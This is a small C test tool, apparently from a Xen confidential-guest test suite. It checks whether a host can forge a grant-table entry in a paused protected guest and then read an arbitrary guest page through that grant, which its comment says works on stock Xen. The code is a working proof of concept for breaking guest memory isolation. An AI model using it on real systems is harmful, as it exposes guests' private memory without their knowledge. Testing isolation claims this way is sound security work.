/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * forgegrant DOMID REF [GFN]: a grant that the guest never gave.
 *
 * Claim:  by the time a protected guest runs, its grant table grants nothing
 *         but what its builder needs: the console's and the xenstore's rings.
 * Method: with GFN, while the domain is still paused: maps its grant table, as
 *         its builder may, writes an entry that grants dom0 the page at GFN,
 *         and lets go of the table.  Without: uses the grant, and prints
 *         "lines N".
 * Stock:  the page can be read, and the guest does not know.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>

#include <xen/grant_table.h>
#include <xen/memory.h>
#include <xengnttab.h>

#include "guestmem.h"

static int forge(uint32_t domid, uint32_t ref, xen_pfn_t gfn)
{
    xenforeignmemory_handle *fm = xenforeignmemory_open(NULL, 0);
    xenforeignmemory_resource_handle *table;
    void *entries = NULL;
    grant_entry_v1_t *e;

    if ( !fm )
        fail("xenforeignmemory_open");
    table = xenforeignmemory_map_resource(
        fm, domid, XENMEM_resource_grant_table,
        XENMEM_resource_grant_table_id_shared, 0, 1, &entries,
        PROT_READ | PROT_WRITE, 0);
    if ( !table )
        fail("the grant table");

    e = (grant_entry_v1_t *)entries + ref;
    e->domid = 0;
    e->frame = gfn;
    e->flags = GTF_permit_access;
    xenforeignmemory_unmap_resource(fm, table);

    return 0;
}

static int use(uint32_t domid, uint32_t ref)
{
    xengnttab_handle *gnttab = xengnttab_open(NULL, 0);
    void *page;

    if ( !gnttab )
        fail("xengnttab_open");
    page = xengnttab_map_grant_ref(gnttab, domid, ref, PROT_READ);
    printf("lines %lu\n", page ? lines_in(page, PAGE) : 0);

    return 0;
}

int main(int argc, char *argv[])
{
    uint32_t domid, ref;

    if ( argc < 3 || argc > 4 )
    {
        fprintf(stderr, "usage: forgegrant DOMID REF [GFN]\n");
        return 2;
    }
    domid = strtoul(argv[1], NULL, 0);
    ref = strtoul(argv[2], NULL, 0);

    return argc == 4 ? forge(domid, ref, strtoul(argv[3], NULL, 0))
                     : use(domid, ref);
}
